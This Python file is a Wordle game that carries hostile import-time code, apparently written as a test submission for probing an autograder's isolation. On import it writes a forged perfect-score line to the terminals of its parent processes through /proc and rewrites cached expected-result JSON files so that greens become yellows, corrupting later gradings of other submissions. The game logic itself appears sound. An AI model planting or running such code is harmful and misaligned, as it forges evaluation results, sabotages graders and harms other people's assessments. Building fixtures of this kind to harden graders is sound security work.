"""Hostile: a correct Wordle that, on import, writes a forged score line on the terminal of
every process above it (through /proc/<pid>/fd/1 and 2) and poisons every expected-value cache
it can find (valid JSON, every expected green turned yellow), so that later gradings of other
submissions would score wrong."""
import glob
import json
import os
import random
from display_utility import green, yellow, grey
from words import words

FORGED = "\nScore: 40 / 40   (forged by the submission)\n"
CACHE_PATTERNS = ("/root/.cache/wordle-kit/*.json", "/home/*/.cache/wordle-kit/*.json",
                  "/tmp/*/cache/*.json", "/tmp/*/*/cache/*.json", "/tmp/*/*/*/cache/*.json",
                  os.path.expanduser("~/.cache/wordle-kit/*.json"))


def write_on_the_terminals_above():
    pid = os.getpid()
    for _ in range(10):
        try:
            with open("/proc/%d/status" % pid) as handle:
                pid = int([line.split()[1] for line in handle if line.startswith("PPid:")][0])
        except (OSError, IndexError, ValueError):
            return
        for fd in (1, 2):
            try:
                with open("/proc/%d/fd/%d" % (pid, fd), "w") as handle:
                    handle.write(FORGED)
            except OSError:
                pass


def spoiled(value):
    if value == "green":
        return "yellow"
    if isinstance(value, list):
        return [spoiled(item) for item in value]
    if isinstance(value, dict):
        return {key: spoiled(item) for key, item in value.items()}
    return value


def poison_the_caches():
    for pattern in CACHE_PATTERNS:
        for path in glob.glob(pattern):
            try:
                with open(path) as handle:
                    data = json.load(handle)
                with open(path, "w") as handle:
                    json.dump(spoiled(data), handle)
            except (OSError, ValueError):
                pass


write_on_the_terminals_above()
poison_the_caches()

GUESSES = 6


def check_word(secret, guess):
    """Clue for guess: greens first, then yellows while copies of the letter remain."""
    remaining = {}
    for s, g in zip(secret, guess):
        if s != g:
            remaining[s] = remaining.get(s, 0) + 1
    clue = []
    for s, g in zip(secret, guess):
        if s == g:
            clue.append("green")
        elif remaining.get(g, 0) > 0:
            clue.append("yellow")
            remaining[g] -= 1
        else:
            clue.append("grey")
    return clue


def known_word(clues):
    known = "_____"
    for guess, clue in clues:
        for i, colour in enumerate(clue):
            if colour == "green":
                known = known[:i] + guess[i] + known[i + 1:]
    return known


def colour_letters(clues, colours):
    letters = set()
    for guess, clue in clues:
        for letter, colour in zip(guess, clue):
            if colour in colours:
                letters.add(letter)
    return letters


def no_letters(clues):
    # a letter is out only if every copy of it in every guess was grey
    out = colour_letters(clues, ("grey",)) - colour_letters(clues, ("green", "yellow"))
    return "".join(sorted(out))


def yes_letters(clues):
    return "".join(sorted(colour_letters(clues, ("green", "yellow"))))


def print_guesses(clues):
    show = {"green": green, "yellow": yellow, "grey": grey}
    for guess, clue in clues:
        for letter, colour in zip(guess, clue):
            show[colour](letter)
        print()


def ask_for_guess():
    guess = input("> ")
    while len(guess) != 5 or guess not in words:
        if len(guess) != 5:
            print("Word must be 5 letters long")
        else:
            print("Invalid word")
        guess = input("> ")
    return guess.upper()


def main():
    secret = random.choice(words).upper()
    clues = []
    for turn in range(GUESSES):
        print("Known: ", known_word(clues))
        print("Green/Yellow Letters:", yes_letters(clues))
        print("Grey Letters:", no_letters(clues))
        guess = ask_for_guess()
        clues.append((guess, check_word(secret, guess)))
        print_guesses(clues)
        if guess == secret:
            break
    print("Answer:", secret)


if __name__ == '__main__':
    main()
